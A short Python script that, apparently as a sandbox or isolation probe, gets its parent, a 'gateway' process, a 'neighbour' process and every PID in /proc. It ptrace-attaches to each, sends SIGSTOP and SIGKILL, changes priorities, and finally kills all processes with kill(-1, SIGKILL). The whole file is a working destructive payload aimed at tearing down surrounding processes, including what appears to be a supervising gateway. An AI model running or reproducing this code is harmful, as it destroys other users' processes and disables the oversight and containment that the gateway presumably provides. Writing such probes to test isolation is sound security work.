# Signals, stops and traces its parent, the gateway and all other processes.
import ctypes
import os
import signal

targets = [os.getppid(), int(os.environ["GATEWAY_PID"]), int(os.environ["NEIGHBOUR_PID"])]
targets += [int(name) for name in os.listdir("/proc") if name.isdigit()]
library = ctypes.CDLL(None)
PTRACE_ATTACH = 16
for target in targets:
    if target in (0, os.getpid()):
        continue
    library.ptrace(PTRACE_ATTACH, target, 0, 0)
    for number in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(target, number)
        except OSError:
            pass
    try:
        os.setpriority(os.PRIO_PROCESS, target, 19)
    except OSError:
        pass
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
print("finished", flush=True)
